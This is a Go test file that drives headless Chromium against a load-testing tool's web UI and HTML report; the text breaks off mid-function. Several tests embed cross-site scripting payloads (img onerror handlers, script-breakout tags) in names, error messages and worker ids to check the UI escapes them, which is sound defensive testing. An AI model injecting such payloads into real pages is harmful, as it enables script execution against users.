package web

// Browser tests of the web UI and the HTML report: headless Chromium driven
// by chromedp against Assets() and a fake API (fakeapi_ui_test.go). They
// skip when Chromium is missing, unless HERD_E2E=required.

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/herdload/herd/internal/browsertest"
	"github.com/herdload/herd/internal/stats"
	"github.com/herdload/herd/internal/threshold"
)

const uiTestTimeout = 60 * time.Second

// uiPage is one browser tab with what it logged.
type uiPage struct {
	ctx      context.Context
	problems browsertest.Problems // uncaught exceptions, console errors, error logs
	mu       sync.Mutex
	requests []string
	dialogs  []string
}

// uiBrowser is one headless Chromium for every browser test of the
// package, started by the first one (a start costs a second or two of CPU)
// and closed by TestMain. Each test's tab has a browser context of its own,
// as fresh as a new profile: no cookie, storage or cache is shared.
var uiBrowser struct {
	once  sync.Once
	ctx   context.Context // the browser's chromedp context
	close func()
	err   error
}

// uiStartBrowser starts the shared browser once and returns its context.
func uiStartBrowser(t *testing.T) context.Context {
	t.Helper()
	exe := browsertest.Chromium(t) // skips (or fails) without one
	uiBrowser.once.Do(func() {
		dir, err := os.MkdirTemp("", "herd-ui-test-")
		if err != nil {
			uiBrowser.err = err
			return
		}
		// The profile outlives the test that starts the browser.
		opts := append(browsertest.Options(t, exe), chromedp.UserDataDir(dir),
			// The DNS rebinding test's names: the browser resolves them to
			// 127.0.0.1 itself, as a rebound name would be (no DNS query
			// leaves the machine).
			chromedp.Flag("host-resolver-rules", "MAP "+uiReboundHost+" 127.0.0.1"))
		actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
		bctx, cancelBrowser := chromedp.NewContext(actx)
		uiBrowser.ctx = bctx
		uiBrowser.close = func() {
			cancelBrowser()
			cancelAlloc()
			os.RemoveAll(dir)
		}
		// Start the browser without a deadline; tabs are bounded.
		uiBrowser.err = chromedp.Do(bctx)
	})
	if uiBrowser.err != nil {
		t.Fatalf("start Chromium: %v", uiBrowser.err)
	}
	return uiBrowser.ctx
}

// uiCloseBrowser stops the shared browser, if a test started it.
func uiCloseBrowser() {
	if uiBrowser.close != nil {
		uiBrowser.close()
	}
}

// uiNewPage opens a tab of the shared headless Chromium in a browser
// context of its own, with a 1366×768 viewport, bounded by uiTestTimeout.
// setup scripts run before every document's own scripts.
func uiNewPage(t *testing.T, dark bool, setup ...string) *uiPage {
	t.Helper()
	browser := uiStartBrowser(t)
	p := &uiPage{}
	// The download tab probes the optional full-history CSV (404 without
	// --csv-full-history); that one is expected.
	p.problems.Expected = []string{"requests_full_history"}
	bctx, cancelTab := chromedp.NewContext(browser, chromedp.WithNewBrowserContext(), chromedp.WithListener(func(ev any) {
		p.problems.Observe(ev)
		p.mu.Lock()
		defer p.mu.Unlock()
		switch ev := ev.(type) {
		case *network.EventRequestWillBeSent:
			p.requests = append(p.requests, ev.Request.URL)
		case *page.EventJavascriptDialogOpening:
			p.dialogs = append(p.dialogs, ev.Message)
		}
	}))
	t.Cleanup(cancelTab) // closes the tab and its browser context
	if err := chromedp.Do(bctx); err != nil {
		t.Fatalf("open a tab: %v", err)
	}
	ctx, cancel := context.WithTimeout(bctx, uiTestTimeout)
	t.Cleanup(cancel)
	p.ctx = ctx
	step := func(name string, err error) {
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
	}
	_, err := chromedp.Call(ctx, cdplog.Enable, cdp.Empty{})
	step("log.enable", err)
	_, err = chromedp.Call(ctx, network.Enable, network.EnableParams{})
	step("network.enable", err)
	scheme := "light"
	if dark {
		scheme = "dark"
	}
	_, err = chromedp.Call(ctx, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
		Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}},
	})
	step("emulate color scheme", err)
	step("viewport", chromedp.Do(ctx, chromedp.EmulateViewport(1366, 768)))
	for _, src := range setup {
		_, err = chromedp.Call(ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: src})
		step("add script", err)
	}
	// A JS dialog (alert from injected markup) would block the page:
	// record it and dismiss it.
	go func() {
		for _, err := range chromedp.Events(ctx, page.JavascriptDialogOpening) {
			if err != nil {
				return
			}
			chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true})
		}
	}()
	return p
}

func (p *uiPage) do(t *testing.T, what string, actions ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	if err := chromedp.Do(p.ctx, actions...); err != nil {
		t.Fatalf("%s: %v\n%s", what, err, p.log())
	}
}

// eval evaluates a JavaScript expression and decodes its value.
func uiEval[T any](t *testing.T, p *uiPage, expr string) T {
	t.Helper()
	v, err := chromedp.Run(p.ctx, chromedp.Evaluate[T](expr, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatalf("evaluate %s: %v\n%s", expr, err, p.log())
	}
	return v
}

// wait polls a JavaScript expression until it is truthy.
func (p *uiPage) wait(t *testing.T, what, expr string) {
	t.Helper()
	if _, err := chromedp.Run(p.ctx, chromedp.Poll[chromedp.Void](expr, chromedp.WithPollingTimeout(20*time.Second))); err != nil {
		t.Fatalf("waiting for %s (%s): %v\n%s", what, expr, err, p.log())
	}
}

func (p *uiPage) log() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return fmt.Sprintf("page problems: %q\ndialogs: %q", p.problems.List(), p.dialogs)
}

// checkClean fails the test if the page reported a problem other than
// those containing one of the expected strings.
func (p *uiPage) checkClean(t *testing.T, expected ...string) {
	t.Helper()
	p.mu.Lock()
	defer p.mu.Unlock()
	var problems []string
	for _, pr := range p.problems.List() {
		if !slices.ContainsFunc(expected, func(e string) bool { return strings.Contains(pr, e) }) {
			problems = append(problems, pr)
		}
	}
	if len(problems) > 0 || len(p.dialogs) > 0 {
		t.Errorf("the page reported problems: %q, dialogs: %q", problems, p.dialogs)
	}
}

const rowsSel = `document.querySelectorAll('#stats-table tbody tr.row')`

// TestBrowserLive renders the live UI against the running shop: the stats
// rows, the status bar, every tab and the chart canvases, with no error.
func TestBrowserLive(t *testing.T) {
	t.Parallel()
	f := uiShopAPI(1080, 200*time.Millisecond)
	f.status.CPUWarning, f.status.CPUShare = true, 0.97
	page := uiNewPage(t, false)
	u := uiServe(t, f)
	page.do(t, "open the UI", chromedp.Navigate(u))
	page.wait(t, "the stats rows", fmt.Sprintf(`%s.length === %d`, rowsSel, len(uiShop)))
	page.wait(t, "the CPU warning", `(document.getElementById('cpu-warning') || {}).textContent?.includes('97%')`)
	page.wait(t, "the total row", `(document.querySelector('#stats-table tfoot tr') || {}).textContent?.includes('Aggregated')`)
	if got := uiEval[string](t, page, `document.getElementById('state-badge').textContent`); got != "running" {
		t.Errorf("state badge = %q, want running", got)
	}
	if n := uiEval[int](t, page, `document.querySelectorAll('#tab-workers, #worker-count').length`); n != 0 {
		t.Error("a single process shows a workers tab or count")
	}
	// Live updates reach the status bar (the fake advances every 200 ms).
	first := uiEval[string](t, page, `document.getElementById('total-rps').textContent`)
	page.wait(t, "a live update", fmt.Sprintf(`document.getElementById('total-rps').textContent !== %q`, first))
	if got := uiEval[string](t, page, `document.querySelector('#stats-table tbody tr.row td:nth-child(2)').textContent`); got != "/" {
		t.Errorf("first row name = %q, want / (the server's order)", got)
	}
	// Thousands separators and units.
	total := uiEval[string](t, page, `document.querySelector('#stats-table tfoot td:nth-child(3)').textContent`)
	if !strings.Contains(total, ",") {
		t.Errorf("total requests %q has no thousands separator", total)
	}
	size := uiEval[string](t, page, `document.querySelector('#stats-table tfoot td:nth-child(11)').textContent`)
	if !strings.HasSuffix(size, "KB") {
		t.Errorf("average size %q is not in KB", size)
	}

	// Charts: three uPlot canvases with a size.
	page.do(t, "open the charts", chromedp.Click(chromedp.CSS("#tab-charts")))
	page.wait(t, "three chart canvases", `document.querySelectorAll('#charts canvas').length === 3 && [...document.querySelectorAll('#charts canvas')].every(c => c.width > 300 && c.height > 80)`)
	page.wait(t, "chart legends", `document.querySelectorAll('#charts .u-legend').length === 3`)
	page.do(t, "pick the 99.9th percentile", chromedp.SetValue(chromedp.CSS(".pick select"), "99.9"),
		chromedp.Evaluate[chromedp.Void](`document.querySelector('.pick select').dispatchEvent(new Event('change', {bubbles: true}))`))
	page.wait(t, "the picked percentile's series", `[...document.querySelectorAll('#charts .u-legend .u-label')].some(e => e.textContent === '99.9%ile')`)

	page.do(t, "open the failures", chromedp.Click(chromedp.CSS("#tab-failures")))
	page.wait(t, "the failures", `document.querySelectorAll('#failures tbody tr').length === 5`)
	page.do(t, "open the errors", chromedp.Click(chromedp.CSS("#tab-errors")))
	page.wait(t, "the errors", `document.querySelectorAll('#errors details').length === 2`)
	page.do(t, "open the tasks", chromedp.Click(chromedp.CSS("#tab-tasks")))
	page.wait(t, "the task ratio", `[...document.querySelectorAll('#tasks .ratio-name')].some(e => e.textContent === 'Abandon')`)
	page.do(t, "open the downloads", chromedp.Click(chromedp.CSS("#tab-download")))
	page.wait(t, "the download links", `document.querySelectorAll('#downloads li a').length === 6`)
	links := uiEval[[]string](t, page, `[...document.querySelectorAll('#downloads a')].map(a => a.getAttribute('href'))`)
	for _, l := range links {
		if strings.HasPrefix(l, "/") || strings.Contains(l, "//") {
			t.Errorf("download link %q is not relative", l)
		}
	}
	if slices.Contains(links, "stats/requests_full_history/csv") {
		t.Errorf("the full-history link shows although the CSV does not exist")
	}
	// The tab survives a reload (it is in the URL), and so do the charts.
	page.do(t, "reload on the charts", chromedp.Click(chromedp.CSS("#tab-charts")), chromedp.Reload())
	page.wait(t, "charts after a reload", `document.querySelectorAll('#charts canvas').length === 3`)
	page.checkClean(t)
}

// TestBrowserXSS: markup in endpoint names, failure messages, errors and
// threshold expressions is shown as text and never runs.
func TestBrowserXSS(t *testing.T) {
	t.Parallel()
	const (
		img    = `<img src=x onerror=alert(1)>`
		setter = `<img src=x onerror="window.__xss=1">`
		script = `<script>window.__xss=2</script>`
	)
	f := uiShopAPI(120, time.Second)
	f.snap.Entries[0].Name = img
	f.snap.Entries[1].Name = script
	f.snap.Failures[0].Name = img
	f.snap.Failures[0].Error = setter
	f.snap.Errors[0].Message = setter
	f.snap.Errors[0].Trace = script
	f.thresholds = sampleThresholds(t) // one of them on a <script> endpoint
	evilTh, err := threshold.Parse(setter + ": p95<1s")
	if err != nil {
		t.Fatal(err)
	}
	f.thresholds[0].Expr, f.thresholds[0].Threshold = evilTh.String(), evilTh
	f.tick = nil
	page := uiNewPage(t, false)
	u := uiServe(t, f)
	page.do(t, "open the UI", chromedp.Navigate(u))
	page.wait(t, "the stats rows", fmt.Sprintf(`%s.length === %d`, rowsSel, len(uiShop)))
	page.wait(t, "the name as text", fmt.Sprintf(`[...document.querySelectorAll('#stats-table td')].some(td => td.textContent === %q)`, img))
	page.do(t, "open the failures", chromedp.Click(chromedp.CSS("#tab-failures")))
	page.wait(t, "the failure message as text", fmt.Sprintf(`[...document.querySelectorAll('#failures td')].some(td => td.textContent === %q)`, setter))
	page.do(t, "open the errors", chromedp.Click(chromedp.CSS("#tab-errors")),
		chromedp.Click(chromedp.CSS("#errors summary")))
	page.wait(t, "the error message as text", fmt.Sprintf(`[...document.querySelectorAll('#errors .error-msg')].some(e => e.textContent === %q)`, setter))
	page.wait(t, "the stack as text", fmt.Sprintf(`[...document.querySelectorAll('#errors pre')].some(e => e.textContent === %q && e.offsetHeight > 0)`, script))
	page.do(t, "open the thresholds", chromedp.Click(chromedp.CSS("#tab-thresholds")))
	page.wait(t, "the thresholds as text", fmt.Sprintf(`(e => e.length === 3 && e[0].textContent === %q && e[1].textContent.startsWith(%q))([...document.querySelectorAll('#thresholds td.expr')])`, setter+": p95<1s", xssThreshold))
	page.wait(t, "the threshold message as text", fmt.Sprintf(`[...document.querySelectorAll('#thresholds td')].some(td => td.textContent === %q)`, "p95 212.5ms, want <1s"))
	if got := uiEval[string](t, page, `typeof window.__xss`); got != "undefined" {
		t.Errorf("injected markup ran: window.__xss is %s", got)
	}
	if n := uiEval[int](t, page, `document.querySelectorAll('img, #app script').length`); n != 0 {
		t.Errorf("%d <img>/<script> elements were created from data", n)
	}
	page.checkClean(t)
}

// TestBrowserWorkers: on a master, the status bar counts the workers and
// the Workers tab lists them by index, the missing one highlighted, a hot
// CPU in the warning colour, memory in MB or GB, ids as text; updates
// arrive live. Without is_master there is no such tab.
func TestBrowserWorkers(t *testing.T) {
	t.Parallel()
	const evilID = `<img src=x onerror=alert(1)>`
	f := uiShopAPI(300, 200*time.Millisecond)
	f.status.IsMaster = true
	f.status.Workers = []WorkerInfo{ // out of order: the UI sorts by index
		{ID: "loadgen-3_b41f", Index: 2, State: WorkerMissing, Users: 0, CPU: 0, Memory: 96 << 20},
		{ID: evilID, Index: 0, State: WorkerRunning, Users: 100, CPU: 96.4, Memory: 3 << 29},
		{ID: "loadgen-2_77c0", Index: 1, State: WorkerRunning, Users: 100, CPU: 41.2, Memory: 412 << 20},
	}
	page := uiNewPage(t, false)
	u := uiServe(t, f)
	page.do(t, "open the UI", chromedp.Navigate(u))
	page.wait(t, "the stats rows", fmt.Sprintf(`%s.length === %d`, rowsSel, len(uiShop)))
	page.wait(t, "the worker count", `(document.getElementById('worker-count') || {}).textContent === '2 workers'`)
	if got := uiEval[string](t, page, `document.getElementById('worker-count').closest('.metric').textContent`); !strings.Contains(got, "1 missing") {
		t.Errorf("status bar workers metric %q does not mention the missing worker", got)
	}
	tabs := uiEval[[]string](t, page, `[...document.querySelectorAll('.tabs [role=tab]')].map(b => b.id)`)
	if !slices.Contains(tabs, "tab-workers") {
		t.Fatalf("tabs %q lack the Workers tab on a master", tabs)
	}
	if got := uiEval[string](t, page, `document.querySelector('#tab-workers .tab-count').className`); !strings.Contains(got, "bad") {
		t.Errorf("workers tab count class %q: a missing worker should mark it", got)
	}

	page.do(t, "open the workers", chromedp.Click(chromedp.CSS("#tab-workers")))
	page.wait(t, "three worker rows", `document.querySelectorAll('#workers tbody tr.row').length === 3`)
	type row struct {
		Cells []string `json:"cells"`
		Class string   `json:"cls"`
		Badge string   `json:"badge"`
		CPU   string   `json:"cpu"`
	}
	rows := uiEval[[]row](t, page, `[...document.querySelectorAll('#workers tbody tr.row')].map(tr => ({
	  cells: [...tr.cells].map(td => td.textContent),
	  cls: tr.className,
	  badge: tr.querySelector('.badge').className,
	  cpu: tr.querySelector('td.cpu').className }))`)
	if len(rows) != 3 {
		t.Fatalf("%d worker rows, want 3", len(rows))
	}
	wantCells := [][]string{
		{"0", evilID, "running", "100", "96.4%", "1.50 GB"},
		{"1", "loadgen-2_77c0", "running", "100", "41.2%", "412.0 MB"},
		{"2", "loadgen-3_b41f", "missing", "0", "0.0%", "96.0 MB"},
	}
	for i, r := range rows {
		if strings.Join(r.Cells, "|") != strings.Join(wantCells[i], "|") {
			t.Errorf("worker row %d = %q, want %q", i, r.Cells, wantCells[i])
		}
	}
	if !strings.Contains(rows[2].Class, "missing") || !strings.Contains(rows[2].Badge, "state-missing") {
		t.Errorf("the missing worker is not highlighted: row %q, badge %q", rows[2].Class, rows[2].Badge)
	}
	if strings.Contains(rows[0].Class, "missing") || strings.Contains(rows[1].Class, "missing") {
		t.Errorf("running workers highlighted as missing: %q, %q", rows[0].Class, rows[1].Class)
	}
	if !strings.Contains(rows[0].CPU, "warn") || strings.Contains(rows[1].CPU, "warn") {
		t.Errorf("CPU classes %q, %q: want the warning colour above 90%% only", rows[0].CPU, rows[1].CPU)
	}
	// The highlight is visible: the missing row's background differs.
	if same := uiEval[bool](t, page, `(() => { const c = [...document.querySelectorAll('#workers tbody tr.row')].map(tr => getComputedStyle(tr.cells[0]).backgroundColor); return c[0] === c[2]; })()`); same {
		t.Error("the missing worker's row looks like the others")
	}
	if got := uiEval[string](t, page, `typeof window.__xss`); got != "undefined" {
		t.Errorf("a worker id ran as markup: window.__xss is %s", got)
	}
	if n := uiEval[int](t, page, `document.querySelectorAll('img, #app script').length`); n != 0 {
		t.Errorf("%d <img>/<script> elements were created from a worker id", n)
	}

	// Live: a worker goes missing, another joins.
	f.mu.Lock()
	ws := slices.Clone(f.status.Workers)
	ws[2].State, ws[2].Users = WorkerMissing, 0 // index 1
	ws = append(ws, WorkerInfo{ID: "loadgen-4_0d9e", Index: 3, State: WorkerSpawning, Users: 20, CPU: 12, Memory: 64 << 20})
	f.status.Workers = ws
	f.mu.Unlock()
	page.wait(t, "the live update", `document.querySelectorAll('#workers tbody tr.row.missing').length === 2 && document.querySelectorAll('#workers tbody tr.row').length === 4`)
	page.wait(t, "the new count", `document.getElementById('worker-count').textContent === '2 workers'`)
	if got := uiEval[string](t, page, `document.querySelector('#workers tbody tr.row:last-child td:nth-child(2)').textContent`); got != "loadgen-4_0d9e" {
		t.Errorf("last worker row %q, want the joining worker (index 3)", got)
	}
	// The tab is in the URL and survives a reload.
	page.do(t, "reload", chromedp.Reload())
	page.wait(t, "the workers after a reload", `document.querySelectorAll('#workers tbody tr.row').length === 4`)

	// No longer a master: the tab and the count go, the statistics show.
	f.mu.Lock()
	f.status.IsMaster, f.status.Workers = false, nil
	f.mu.Unlock()
	page.wait(t, "no workers tab", `!document.getElementById('tab-workers') && !document.getElementById('worker-count') && !document.getElementById('workers')`)
	page.wait(t, "the statistics instead", rowsSel+`.length > 0`)
	page.checkClean(t)
}

// TestBrowserStartForm posts the start form's fields, shows a 400 message
// inline, then edits and stops the running test.
func TestBrowserStartForm(t *testing.T) {
	t.Parallel()
	f := &uiFakeAPI{
		every: 200 * time.Millisecond,
		status: Status{
			State: StateReady, SpawnRate: 1, Host: "http://localhost:8080", ClassPicker: true,
			UserClasses: []UserClass{{Name: "WebUser", Weight: 3}, {Name: "APIUser", Weight: 1, FixedCount: 2}},
		},
		snap: &stats.Snapshot{Time: time.Now(), Start: time.Now(), Total: stats.Entry{Name: stats.TotalName}},
	}
	page := uiNewPage(t, false)
	u := uiServe(t, f)
	page.do(t, "open the UI", chromedp.Navigate(u))
	// Ready: the start form shows by itself.
	page.do(t, "the start form", chromedp.WaitVisible(chromedp.CSS("#start-form")))
	if n := uiEval[int](t, page, `document.querySelectorAll('#start-form input[name=user_classes]:checked').length`); n != 2 {
		t.Errorf("%d classes checked, want both", n)
	}
	page.do(t, "fill in the form",
		chromedp.SetValue(chromedp.CSS(`#start-form input[name=user_count]`), "25"),
		chromedp.SetValue(chromedp.CSS(`#start-form input[name=spawn_rate]`), "2.5"),
		chromedp.SetValue(chromedp.CSS(`#start-form input[name=host]`), "ftp://nope.test"),
		chromedp.SetValue(chromedp.CSS(`#start-form input[name=run_time]`), "1h30m"),
		chromedp.Click(chromedp.CSS(`#start-form input[value=APIUser]`)),
		chromedp.Click(chromedp.CSS(`#start-form button[type=submit]`)),
	)
	page.wait(t, "the 400 message", `(document.getElementById('form-error') || {}).textContent === 'host "ftp://nope.test": the scheme must be http or https'`)
	if n := uiEval[int](t, page, `document.querySelectorAll('#start-form').length`); n != 1 {
		t.Fatal("the form closed after a 400")
	}
	page.do(t, "fix the host and submit",
		chromedp.SetValue(chromedp.CSS(`#start-form input[name=host]`), "http://shop.test"),
		chromedp.Click(chromedp.CSS(`#start-form button[type=submit]`)),
		chromedp.WaitNotPresent(chromedp.CSS("#start-form")),
	)
	f.mu.Lock()
	got := slices.Clone(f.swarms)
	types := slices.Clone(f.swarmTypes)
	f.mu.Unlock()
	if len(got) != 2 {
		t.Fatalf("%d swarm posts, want 2", len(got))
	}
	want := url.Values{
		"user_count": {"25"}, "spawn_rate": {"2.5"}, "host": {"http://shop.test"},
		"run_time": {"1h30m"}, "user_classes": {"WebUser"},
	}
	if fmt.Sprint(got[1]) != fmt.Sprint(want) {
		t.Errorf("posted %v, want %v", got[1], want)
	}
	for _, ct := range types {
		if !strings.HasPrefix(ct, "application/x-www-form-urlencoded") {
			t.Errorf("swarm Content-Type %q, want form-urlencoded", ct)
		}
	}

	// Running: edit the user count and spawn rate.
	page.wait(t, "the running state", `document.getElementById('state-badge').textContent === 'running'`)
	page.do(t, "edit", chromedp.Click(chromedp.CSS("#edit-test")), chromedp.WaitVisible(chromedp.CSS("#edit-form")),
		chromedp.SetValue(chromedp.CSS(`#edit-form input[name=user_count]`), "40"),
		chromedp.SetValue(chromedp.CSS(`#edit-form input[name=spawn_rate]`), "4"),
		chromedp.Click(chromedp.CSS(`#edit-form button[type=submit]`)),
		chromedp.WaitNotPresent(chromedp.CSS("#edit-form")),
	)
	f.mu.Lock()
	edit := f.swarms[len(f.swarms)-1]
	f.mu.Unlock()
	if fmt.Sprint(edit) != fmt.Sprint(url.Values{"user_count": {"40"}, "spawn_rate": {"4"}}) {
		t.Errorf("edit posted %v, want user_count=40 and spawn_rate=4 only", edit)
	}
	page.wait(t, "40 users", `document.getElementById('users-now').textContent === '40'`)

	// Reset the statistics.
	page.do(t, "reset", chromedp.Click(chromedp.CSS("#reset-stats")))
	for deadline := time.Now().Add(30 * time.Second); ; {
		f.mu.Lock()
		resets := f.resets
		f.mu.Unlock()
		if resets == 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d reset posts, want 1", resets)
		}
		time.Sleep(10 * time.Millisecond) // polling the fake, bounded by the deadline
	}

	// Stop, then the "New test" button is back.
	page.do(t, "stop", chromedp.Click(chromedp.CSS("#stop-test")))
	page.wait(t, "the stopped state", `document.getElementById('state-badge').textContent === 'stopped' && !!document.getElementById('new-test')`)
	f.mu.Lock()
	stops := f.stops
	f.mu.Unlock()
	if stops != 1 {
		t.Errorf("%d stop posts, want 1", stops)
	}
	page.checkClean(t, "status of 400 (Bad Request) "+u+"swarm")
}

// TestBrowserSorting sorts the (windowed) stats table by any column.
func TestBrowserSorting(t *testing.T) {
	t.Parallel()
	f := &uiFakeAPI{
		status: Status{State: StateRunning, Users: 10, TargetUsers: 10, SpawnRate: 1, Host: "http://t.test", StartedAt: time.Now()},
		snap:   uiManySnapshot(time.Now(), 300, 0),
	}
	page := uiNewPage(t, false)
	u := uiServe(t, f)
	page.do(t, "open the UI", chromedp.Navigate(u))
	page.wait(t, "the stats rows", rowsSel+`.length > 10`)
	if n := uiEval[int](t, page, rowsSel+`.length`); n >= 300 {
		t.Errorf("%d of 300 rows rendered: the table is not windowed", n)
	}
	cell := func(col int) string {
		return uiEval[string](t, page, fmt.Sprintf(`document.querySelector('#stats-table tbody tr.row td:nth-child(%d)').textContent`, col))
	}
	maxReq, minReq := uint64(0), ^uint64(0)
	for _, e := range f.snap.Entries {
		maxReq, minReq = max(maxReq, e.Requests), min(minReq, e.Requests)
	}
	num := func(s string) string { return strings.ReplaceAll(s, ",", "") }

	page.do(t, "sort by requests", chromedp.Click(chromedp.CSS(`#stats-table th[data-key=num_requests] button`)))
	page.wait(t, "descending", `document.querySelector('#stats-table th[data-key=num_requests]').getAttribute('aria-sort') === 'descending'`)
	if got := num(cell(3)); got != fmt.Sprint(maxReq) {
		t.Errorf("sorted by requests descending, first row has %s, want %d", got, maxReq)
	}
	page.do(t, "sort ascending", chromedp.Click(chromedp.CSS(`#stats-table th[data-key=num_requests] button`)))
	page.wait(t, "ascending", `document.querySelector('#stats-table th[data-key=num_requests]').getAttribute('aria-sort') === 'ascending'`)
	if got := num(cell(3)); got != fmt.Sprint(minReq) {
		t.Errorf("sorted by requests ascending, first row has %s, want %d", got, minReq)
	}
	page.do(t, "sort by name", chromedp.Click(chromedp.CSS(`#stats-table th[data-key=name] button`)))
	page.wait(t, "by name", `document.querySelector('#stats-table th[data-key=name]').getAttribute('aria-sort') === 'ascending'`)
	if got := cell(2); got != "/api/v1/resource-0000/items" {
		t.Errorf("sorted by name, first row %q", got)
	}
	// Scrolling to the end renders the last rows.
	page.do(t, "scroll to the end", chromedp.Evaluate[chromedp.Void](`(s => s.scrollTop = s.scrollHeight)(document.getElementById('stats-table'))`))
	page.wait(t, "the last row", `[...document.querySelectorAll('#stats-table tbody tr.row td:nth-child(2)')].some(td => td.textContent === '/api/v1/resource-0299/items')`)
	// Every column sorts.
	keys := uiEval[[]string](t, page, `[...document.querySelectorAll('#stats-table th')].map(th => th.dataset.key)`)
	for _, k := range keys {
		page.do(t, "sort by "+k, chromedp.Click(chromedp.CSS(fmt.Sprintf(`#stats-table th[data-key=%q] button`, k))))
		page.wait(t, "sorted by "+k, fmt.Sprintf(`document.querySelector('#stats-table th[data-key=%q]').getAttribute('aria-sort') !== 'none'`, k))
	}
	// The filter narrows the rows.
	page.do(t, "filter", chromedp.SendKeys(chromedp.CSS("input.filter"), "resource-012"))
	page.wait(t, "10 matches", rowsSel+`.length === 10`)
	page.checkClean(t)
}

// TestBrowserHTMLReport opens the report written by WriteHTMLReport from a
// file with the network emulated offline: tables, charts, failures and
// errors render, nothing is fetched, and markup in names stays text.
func TestBrowserHTMLReport(t *testing.T) {
	t.Parallel()
	const evil = `</script><script>window.__xss=1</script><img src=x onerror="window.__xss=2">`
	f := uiShopAPI(1800, time.Second)
	f.snap.Entries[2].Name = evil
	f.snap.Errors[0].Message = evil
	end := f.snap.Time
	r := Report{
		Title: "Checkout " + evil, Host: "https://shop.example.test", Users: 300, SpawnRate: 5, RunTime: 30 * time.Minute,
		UserClasses: []string{"Shopper", "APIClient"}, Start: end.Add(-30 * time.Minute), End: end,
		Stats: f.snap, History: uiLongHistory(end, 4*3600),
		Workers: []WorkerInfo{
			{ID: "loadgen-2_77c0", Index: 1, State: WorkerMissing, Memory: 300 << 20},
			{ID: evil, Index: 0, State: WorkerRunning, Users: 300, CPU: 92.5, Memory: 2 << 30},
		},
	}
	file := filepath.Join(t.TempDir(), "report.html")
	out, err := os.Create(file)
	if err != nil {
		t.Fatal(err)
	}
	if err := WriteHTMLReport(out, r); err != nil {
		t.Fatal(err)
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}

	page := uiNewPage(t, true)
	_, err = chromedp.Call(page.ctx, network.EmulateNetworkConditionsByRule, network.EmulateNetworkConditionsByRuleParams{
		MatchedNetworkConditions: []*network.Conditions{{Offline: true, DownloadThroughput: -1, UploadThroughput: -1}},
	})
	if err != nil {
		t.Fatalf("emulate offline: %v", err)
	}
	fileURL := (&url.URL{Scheme: "file", Path: file}).String()
	page.do(t, "open the report", chromedp.Navigate(fileURL))
	page.wait(t, "the report", `!!document.getElementById('report')`)
	page.wait(t, "the stats rows", fmt.Sprintf(`%s.length === %d`, rowsSel, len(uiShop)))
	page.wait(t, "the percentile rows", fmt.Sprintf(`document.querySelectorAll('#percentiles-table tbody tr.row').length === %d`, len(uiShop)))
	page.wait(t, "three chart canvases", `document.querySelectorAll('#charts-section canvas').length === 3 && [...document.querySelectorAll('#charts-section canvas')].every(c => c.width > 300)`)
	page.wait(t, "the failures", `document.querySelectorAll('#failures tbody tr').length === 5`)
	page.wait(t, "the errors", `document.querySelectorAll('#errors .error-card').length === 2`)
	page.wait(t, "the name as text", fmt.Sprintf(`[...document.querySelectorAll('#stats-table td')].some(td => td.textContent === %q)`, evil))
	page.wait(t, "the workers", `document.querySelectorAll('#workers-section tbody tr.row').length === 2`)
	if got := uiEval[[]string](t, page, `[...document.querySelectorAll('#workers-section tbody tr.row')].map(tr => tr.className + '|' + tr.cells[1].textContent + '|' + tr.querySelector('td.cpu').className)`); len(got) != 2 ||
		got[0] != "row|"+evil+"|num cpu warn" || got[1] != "row missing|loadgen-2_77c0|num cpu" {
		t.Errorf("report workers rows %q: want by index, the id as text, the hot CPU and the missing worker marked", got)
	}
	if got := uiEval[string](t, page, `document.querySelector('.report-nav').textContent`); !strings.Contains(got, "Workers (2)") {
		t.Errorf("report nav %q lacks the workers", got)
	}
	if got := uiEval[string](t, page, `document.title`); got != r.Title {
		t.Errorf("title %q, want %q", got, r.Title)
	}
	if got := uiEval[string](t, page, `document.querySelector('.params').textContent`); !strings.Contains(got, "https://shop.example.test") || !strings.Contains(got, "Shopper, APIClient") {
		t.Errorf("run parameters %q lack the host or the classes", got)
	}
	if got := uiEval[string](t, page, `typeof window.__xss`); got != "undefined" {
		t.Errorf("injected markup ran in the report: window.__xss is %s", got)
	}
	if n := uiEval[int](t, page, `document.querySelectorAll('button, form, input[type=number]').length - document.querySelectorAll('.theme-toggle, table.data th button, .segmented button').length`); n != 0 {
		t.Errorf("the report has %d controls besides sorting, filtering and the theme", n)
	}
	if n := uiEval[int](t, page, `JSON.parse(document.getElementById('herd-report').textContent).report.history.length`); n == 0 || n > 1200 {
		t.Errorf("the report embeds %d history points, want 1–1200", n)
	}
	page.mu.Lock()
	reqs := slices.Clone(page.requests)
	page.mu.Unlock()
	for _, rq := range reqs {
		if rq != fileURL && !strings.HasPrefix(rq, "data:") {
			t.Errorf("the report requested %s", rq)
		}
	}
	page.checkClean(t)
}

// uiPerf is what the page measured (window.__herdPerf).
type uiPerf struct {
	Updates []struct {
		Parse  float64 `json:"parse"`
		Commit float64 `json:"commit"`
		Frame  float64 `json:"frame"`
		Bytes  int     `json:"bytes"`
		Tab    string  `json:"tab"`
	} `json:"updates"`
	LongTasks []struct {
		Start    float64 `json:"start"`
		Duration float64 `json:"duration"`
	} `json:"longTasks"`
}

const uiPerfSetup = `window.__herdPerf = {updates: [], longTasks: []};
try {
  new PerformanceObserver(l => { for (const e of l.getEntries()) window.__herdPerf.longTasks.push({start: e.startTime, duration: e.duration}); })
    .observe({type: 'longtask', buffered: true});
} catch (e) {}`

func uiStatsOf(v []float64) (p50, p95, maxV float64) {
	if len(v) == 0 {
